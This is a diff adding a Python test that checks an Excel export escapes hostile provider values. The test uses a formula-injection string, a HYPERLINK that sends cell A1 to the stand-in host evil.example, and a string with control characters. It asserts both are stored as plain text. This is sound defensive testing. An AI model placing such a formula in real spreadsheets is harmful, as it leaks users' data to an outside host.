@@ -203,3 +203,28 @@ def test_caches_of_pruned_versions_are_removed(served: Delivery) -> None:
     assert not get_storage().exists(f"exports/{served.hub.resource_id}/v000001")  # nor in an object store
     assert not list((storage_root() / "index").glob(f"*/{version_folder(v1).name}"))
     assert "removed 2" in done.output
+
+
+def test_excel_copies_keep_hostile_text_as_text(served: Delivery) -> None:
+    """A provider's value that starts with = (a formula in Excel: CSV/formula injection) or holds a control
+    character (which XML cannot carry: the export failed) is written as text Excel shows as it was."""
+    from openpyxl import load_workbook
+
+    from core.xlsx import unescaped
+    from pipeline.sync import sync_resource
+
+    hostile, broken = '=HYPERLINK("http://evil.example/?"&A1,"点我")', "第一行\x01第二行\x0b_x0041_"
+    first, second = sorted(r["id"] for r in expected_rows(latest(served.hub.resource_code)))[:2]  # granted rows
+    with closing(sqlite3.connect(served.database)) as conn, conn:
+        for key, name in ((first, hostile), (second, broken)):
+            conn.execute("UPDATE enterprises SET name = ?, updated_at = '2031-01-01T09:00:00+08:00' WHERE id = ?",
+                         (name, key))
+    sync_resource(resource_code=served.hub.resource_code)
+    names = {r["id"]: r["name"] for r in expected_rows(latest(served.hub.resource_code))}
+    excel = served.get(_files(served), token=served.hub.token, params={"format": "xlsx"})
+    assert excel.status_code == 200, excel.text
+    sheet = load_workbook(io.BytesIO(excel.content)).worksheets[0]
+    rows = list(sheet.iter_rows(min_row=2))
+    assert all(row[2].data_type == "s" for row in rows)  # no cell of the column is a formula
+    shown = {row[0].value: unescaped(row[2].value) for row in rows}
+    assert shown == names and (shown[first], shown[second]) == (hostile, broken)
